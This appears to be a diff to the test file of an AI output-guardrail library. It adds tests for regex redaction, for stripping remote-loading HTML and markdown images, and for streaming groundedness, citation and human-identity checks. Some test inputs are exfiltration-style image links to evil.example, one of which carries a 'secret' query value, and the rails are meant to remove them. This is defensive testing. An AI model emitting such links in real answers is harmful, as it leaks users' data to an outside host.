@@ -44,6 +44,18 @@ describe.each<[string, Rail, string, string]>([
     'On https://docs.example.org/a and [link removed] or [link removed] now.',
   ],
   [
+    'a pattern in the syntax of RE2 alone',
+    await createRegexRail({ pattern: '(?i)ab[[:digit:]]+', maxLength: 8 }),
+    'See AB12, ab and 12.',
+    'See [redacted:pattern], ab and 12.',
+  ],
+  [
+    'markup that loads',
+    createExfiltrationRail({ kinds: ['html-load'] }),
+    'If a < b, see <img\n src="https://evil.example/a"\n> and <b>this</b>!',
+    'If a < b, see [removed] and <b>this</b>!',
+  ],
+  [
     'images that carry data out',
     createExfiltrationRail({ kinds: ['markdown-image'] }),
     'Look: ![a](https://evil.example/?q=secret) and ![b][ref] fine!',
@@ -59,6 +71,64 @@ describe.each<[string, Rail, string, string]>([
       expect((await guardInPieces(guardrails, pieces)).text).toBe(left);
     }
     expect((await guardInPieces(guardrails, [...text])).text).toBe(left);
+  });
+});
+
+describe('rails that judge an answer while it grows', () => {
+  const evidence = ['The hotel has 12 rooms and a garden. It was built in 1931 by Anna Berg.'];
+  const stream = async (
+    rail: Rail,
+    pieces: readonly string[],
+  ): Promise<{ released: string; first: number; feedback: string | undefined }> => {
+    const growing = createGuardrails({ rails: [rail] }).openStream({ point: 'output', evidence });
+    let [released, first, feedback] = ['', Infinity, undefined as string | undefined];
+    for (const [index, piece] of [...pieces, undefined].entries()) {
+      const release = piece === undefined ? await growing.end() : await growing.push(piece);
+      released += release.text;
+      feedback ??= release.feedback;
+      if (release.text !== '') first = Math.min(first, index);
+    }
+    return { released, first, feedback };
+  };
+  const GOOD = 'The hotel has 12 rooms and a garden. ';
+  const BAD = 'It was sold to Peter Stone in 1999.';
+
+  it('end an answer before the first sentence that is not supported, however it is split', async () => {
+    const rail = createGroundednessRail({ threshold: 0.5, holds: 'sentence' });
+    const text = `${GOOD}${BAD} ${GOOD}`;
+    for (let cut = 0; cut <= text.length; cut += 1) {
+      const { released } = await stream(rail, [text.slice(0, cut), text.slice(cut)]);
+      expect(GOOD.startsWith(released)).toBe(true);
+    }
+    const { released, first } = await stream(rail, [...text]);
+    expect(released).toBe(GOOD);
+    expect(first).toBeLessThan(GOOD.length);
+    expect((await stream(rail, [...`${BAD} ${GOOD}`])).feedback).toContain('Peter Stone');
+    expect(() => createGroundednessRail({ holds: 'sentence', onFailure: 'fix' })).toThrow(
+      'needs the whole',
+    );
+  });
+
+  it('let an answer go on once it has cited', async () => {
+    const rail = createCitationRail({ min: 2 });
+    const text = 'It has rooms [1] and a garden [2]. It is old, as all of them are.';
+    const { released, first } = await stream(rail, [...text]);
+    expect(released).toBe(text);
+    expect(first).toBe(text.indexOf('[2]') + 2);
+    expect((await stream(rail, ['Rooms [1] and [1', '].'])).released).toBe('');
+  });
+
+  it('hold back what may be a claim to be a person, and nothing else', async () => {
+    const rail = createIdentityRail();
+    expect(await stream(rail, ['Hello! ', 'I ', 'am a hum', 'an being, yes.'])).toEqual({
+      released: 'Hello! ',
+      first: 0,
+      feedback: expect.stringContaining('claims to come from') as unknown,
+    });
+    const { released } = await stream(rail, ['I am a humble', ' program.']);
+    expect(released).toBe('I am a humble program.');
+    expect(await leftOf(rail, "Don't worry, I'm a real person.")).toBe('BLOCKED');
+    expect(await leftOf(rail, 'She said “I am a real person” to it.')).not.toBe('BLOCKED');
   });
 });
 
